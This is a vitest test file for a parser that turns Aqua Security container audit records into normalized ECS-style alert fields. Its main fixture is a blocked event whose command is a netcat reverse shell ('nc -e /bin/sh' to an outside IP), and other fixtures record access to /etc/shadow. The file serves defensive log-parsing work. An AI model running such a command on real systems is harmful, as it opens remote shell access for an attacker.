import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { aquaAudit } from '../../../../parsers/formats/aqua-audit/index.js';
import { FORMATS } from '../../../../parsers/registry.js';
import { formatUtc } from '../../../../parsers/time/format.js';
import { toParts } from '../../../../parsers/time/instant.js';
import { countsOf } from '../../../support/check-format.js';
import { collectImport, memoryFile } from '../../../support/collect-import.js';
import { onlyEvent } from '../../../support/parsed.js';
import { recordInput } from '../../../support/record-input.js';

const id = '5f3a'.padEnd(64, '0');

const blocked = {
  id: '9f0d-1',
  time: 1_717_236_001,
  type: 'Docker',
  category: 'os',
  action: 'exec',
  result: 2,
  level: 'block',
  user: 'root',
  uid: '0',
  euser: '',
  process: '/bin/sh',
  pid: 4123,
  command: 'nc -e /bin/sh 203.0.113.7 4444',
  resource: 'nc -e /bin/sh 203.0.113.7 4444',
  container: 'web',
  containerid: id,
  image: 'registry.example/shop/web:1.4',
  imagehash: `sha256:${'a'.repeat(64)}`,
  registry: 'Example',
  podname: 'web-1',
  podnamespace: 'shop',
  podtype: 'Deployment',
  poddeployment: 'web',
  k8s_cluster: 'prod',
  host: 'node-1',
  hostid: 'h1',
  hostip: '10.0.0.11',
  vm_id: 'i-1',
  rule: 'prod-runtime',
  rule_type: 'runtime.policy',
  control: 'Executables Blocked',
  reason: 'Unauthorized executable',
  data: '',
};

const parse = (changes: object) => onlyEvent(aquaAudit.parse(recordInput({ ...blocked, ...changes })));

test('an execution that was blocked in a pod', () => {
  const event = parse({});
  expect(event.time).toMatchObject({ resolution: 's', zone: 'format', kind: 'happened' });
  expect(event.time && formatUtc(toParts(event.time.instant))).toBe('2024-06-01T10:00:01.000000000Z');
  expect(event.fields).toEqual({
    'exhibit.layer': 'container',
    'exhibit.lane': 'k8s/prod/shop/web-1',
    'exhibit.outcome': 'prevented',
    'exhibit.outcome.original': '2 block',
    'exhibit.image.registry': 'Example',
    'exhibit.k8s.owner': 'Deployment/web',
    'event.action': 'exec',
    'event.category': 'process',
    'event.kind': 'alert',
    'event.type': ['start', 'denied'],
    'event.outcome': 'failure',
    'event.provider': 'Docker',
    'event.id': '9f0d-1',
    'event.reason': 'Unauthorized executable',
    'rule.name': 'prod-runtime',
    'rule.category': ['Executables Blocked', 'runtime.policy'],
    'user.name': 'root',
    'user.id': '0',
    'process.name': 'sh',
    'process.executable': '/bin/sh',
    'process.pid': 4123,
    'process.command_line': blocked.command,
    'container.id': id,
    'container.name': 'web',
    'container.image.name': 'registry.example/shop/web',
    'container.image.tag': '1.4',
    'container.image.id': blocked.imagehash,
    'orchestrator.cluster.name': 'prod',
    'orchestrator.namespace': 'shop',
    'orchestrator.resource.type': 'pods',
    'orchestrator.resource.name': 'web-1',
    'host.name': 'node-1',
    'host.id': 'h1',
    'host.ip': '10.0.0.11',
    'cloud.instance.id': 'i-1',
  });
  expect(event.message).toBe(
    'root: exec nc -e /bin/sh 203.0.113.7 4444 in shop/web-1: prevented (2 block) by control "Executables Blocked" of policy "prod-runtime". Unauthorized executable',
  );
});

describe('outcome', () => {
  test.each([
    [1, undefined, 'allowed', 'success'],
    [2, undefined, 'prevented', 'failure'],
    [3, undefined, 'detected', 'unknown'],
    [4, undefined, 'detected', 'unknown'],
    ['2', undefined, 'prevented', 'failure'],
    [undefined, 'block', 'prevented', 'failure'],
    [undefined, 'Detect', 'detected', 'unknown'],
    [undefined, 'alert', 'detected', 'unknown'],
  ])('result %j, level %j', (result, level, outcome, ecs) => {
    expect(parse({ result, level }).fields).toMatchObject({ 'exhibit.outcome': outcome, 'event.outcome': ecs });
  });

  test('where number and word disagree the number counts, and both are kept', () => {
    expect(parse({ result: 3, level: 'block' }).fields).toMatchObject({
      'exhibit.outcome': 'detected',
      'exhibit.outcome.original': '3 block',
    });
  });
});

describe('time', () => {
  test('as text after an export', () => {
    expect(parse({ time: '1717236001' }).time?.instant).toBe(parse({}).time?.instant);
  });

  test('under its other names', () => {
    expect(parse({ time: undefined, date: 1_717_236_002 }).time?.text).toBe('1717236002');
    expect(parse({ time: undefined, create_time: 1_717_236_003 }).time?.text).toBe('1717236003');
  });

  test('of a scan: start and end stand in data, and count where nothing else does', () => {
    const data = '{"scan_start_time":1717236150,"scan_end_time":1717236175}';
    expect(parse({ data }).otherTimes?.map(({ text }) => text)).toEqual(['1717236150', '1717236175']);
    expect(parse({ data, time: 0 }).time?.text).toBe('1717236150');
  });

  test('that cannot be read is said', () => {
    expect(aquaAudit.parse(recordInput({ ...blocked, time: 'noon' }))).toMatchObject({
      events: [{ time: null }],
      problems: [{ code: 'bad-time', reason: expect.stringContaining('"noon"') }],
    });
  });
});

describe('data, a document inside a text', () => {
  test('is read', () => {
    const data = JSON.stringify({ tactic: 'Command And Control', technique: 'T1571 Non-Standard Port', malware: 'X' });
    expect(parse({ data }).fields).toMatchObject({
      'threat.tactic.name': 'command-and-control',
      'threat.technique.id': 'T1571',
      'threat.software.name': 'X',
      'event.category': 'malware',
    });
  });

  test('that breaks off costs nothing but itself, and is said', () => {
    expect(aquaAudit.parse(recordInput({ ...blocked, data: '{"a":' }))).toMatchObject({
      events: [{ fields: { 'exhibit.outcome': 'prevented' } }],
      problems: [{ code: 'not-json' }],
    });
  });

  test('that is plain text is no complaint', () => {
    expect(aquaAudit.parse(recordInput({ ...blocked, data: 'hello' }))).not.toHaveProperty('problems');
  });
});

describe('what was acted upon', () => {
  test.each([
    [
      { category: 'file', resource: '/etc/shadow', resource_digest: 'B'.repeat(64) },
      { 'file.path': '/etc/shadow', 'file.hash.sha256': 'b'.repeat(64) },
    ],
    [
      { category: 'network', resource: '198.51.100.20:3333' },
      { 'destination.ip': '198.51.100.20', 'destination.port': 3333 },
    ],
    [{ category: 'network', resource: 'pool.example' }, { 'destination.domain': 'pool.example' }],
    [{ category: 'secret', resource: '', secret: 'db-password' }, { 'exhibit.target': 'db-password' }],
  ])('%j', (changes, fields) => {
    expect(parse({ action: 'open', ...changes }).fields).toMatchObject(fields);
  });

  test.each(['resource_type', 'resoure_type'])('the kind of a cluster object, spelled %s', (key) => {
    const none = { podname: '', container: '', containerid: '', command: '', process: '' };
    const { fields } = parse({
      ...none,
      category: 'KubernetesAssurancePolicy',
      action: 'policy.failure',
      resource_name: 'bad',
      [key]: 'Pod',
    });
    expect(fields).toMatchObject({
      'exhibit.layer': 'cluster',
      'exhibit.lane': 'node/node-1',
      'orchestrator.resource.type': 'pods',
      'orchestrator.resource.name': 'bad',
      'event.category': 'configuration',
    });
  });
});

describe('place', () => {
  const nowhere = {
    container: '',
    containerid: '',
    image: '',
    imagehash: '',
    podname: '',
    podnamespace: '',
    k8s_cluster: '',
  };

  test('empty texts are missing keys: an event of a host has no container', () => {
    const { fields } = parse(nowhere);
    expect(fields).toMatchObject({ 'exhibit.layer': 'host', 'exhibit.lane': 'node/node-1' });
    expect(Object.keys(fields).filter((key) => key.startsWith('container.'))).toEqual([]);
  });

  test('a container name that the kubelet made says the pod', () => {
    const { fields } = parse({ container: 'k8s_web_web-9_data_0b1c-55_0', podname: '', podnamespace: '' });
    expect(fields).toMatchObject({
      'exhibit.lane': 'k8s/prod/data/web-9',
      'container.name': 'web',
      'orchestrator.resource.id': '0b1c-55',
    });
  });

  test('an act on the console', () => {
    const login = {
      id: 'x',
      time: 1_717_236_120,
      type: 'Administration',
      category: 'user',
      action: 'login',
      result: 1,
      user: 'administrator',
      source_address: '192.0.2.10',
    };
    expect(onlyEvent(aquaAudit.parse(recordInput(login))).fields).toEqual({
      'exhibit.layer': 'cluster',
      'exhibit.outcome': 'allowed',
      'exhibit.outcome.original': '1',
      'event.action': 'login',
      'event.category': 'authentication',
      'event.kind': 'event',
      'event.type': ['start', 'allowed'],
      'event.outcome': 'success',
      'event.provider': 'Administration',
      'event.id': 'x',
      'user.name': 'administrator',
      'source.ip': '192.0.2.10',
    });
  });

  test('a scan stands in the lane of its image', () => {
    const { fields } = parse({
      ...nowhere,
      image: 'web:1',
      host: '',
      hostid: '',
      category: 'CVE',
      action: 'Scan',
      result: 4,
    });
    expect(fields).toMatchObject({ 'exhibit.lane': 'image/web:1', 'event.category': 'vulnerability' });
  });
});

describe('repeats', () => {
  const counts = async (...records: readonly object[]) => {
    const text = records.map((record) => JSON.stringify(record)).join('\n');
    const { members } = await collectImport([memoryFile(new TextEncoder().encode(text))], { formats: FORMATS });
    return countsOf(members[0]?.records ?? []);
  };

  test('the same id and content is one occurrence', async () => {
    expect(await counts(blocked, blocked)).toMatchObject({ records: 2, duplicates: 1 });
  });

  test('block and detect of one act stay two events, under two ids or one', async () => {
    expect(await counts(blocked, { ...blocked, id: '9f0d-2', result: 3, level: 'detect' })).toMatchObject({
      duplicates: 0,
    });
    expect(await counts(blocked, { ...blocked, result: 3, level: 'detect' })).toMatchObject({ duplicates: 0 });
  });

  test('without an id nothing is folded, however equal', async () => {
    const { id: _id, ...bare } = blocked;
    expect(await counts(bare, bare)).toMatchObject({ records: 2, duplicates: 0 });
  });
});

describe('carried by', () => {
  const text = JSON.stringify(blocked);
  test.each([
    ['one document, indented', JSON.stringify(blocked, null, 2), 1],
    ['an array', JSON.stringify([blocked, blocked]), 2],
    ['a page of the API', JSON.stringify({ count: 2, result: [blocked, blocked] }), 2],
    ['a Splunk row', JSON.stringify({ _raw: text, sourcetype: 'aqua' }), 1],
    [
      'an Elasticsearch answer',
      JSON.stringify({ hits: { hits: [{ _index: 'aqua', _id: '1', _source: blocked }] } }),
      1,
    ],
    ['syslog', `<134>1 2024-06-01T10:00:02Z aqua-web aqua - - - ${text}`, 1],
  ])('%s', async (_, file, count) => {
    const { members } = await collectImport([memoryFile(new TextEncoder().encode(file))], { formats: FORMATS });
    const [member] = members;
    expect(member?.end.format).toBe('aqua-audit');
    expect(member?.end.formatReason).toContain('Schema assumed');
    expect(member?.records.map(({ result }) => result.kind)).toEqual(Array.from({ length: count }, () => 'events'));
  });
});

test.each([
  [{ level: 'Metadata', action: 'x', category: 'y', time: 1 }, 'wrong-shape'],
  [{ result: { a: 1 }, hostid: 'x', hostip: 'y' }, 'wrong-shape'],
  [{ _raw: JSON.stringify(blocked).slice(0, -4) }, 'truncated'],
])('%j is rejected', (value, code) => {
  expect(aquaAudit.parse(recordInput(value))).toMatchObject({ kind: 'rejected', code });
});

test('whatever stands where a field should be, the record is answered', () => {
  fc.assert(
    fc.property(fc.constantFrom(...Object.keys(blocked)), fc.jsonValue(), (key, value) => {
      expect(['events', 'rejected']).toContain(aquaAudit.parse(recordInput({ ...blocked, [key]: value })).kind);
      expect(aquaAudit.parse(recordInput({ ...blocked, data: JSON.stringify(value) })).kind).toBe('events');
    }),
    { numRuns: 300 },
  );
});
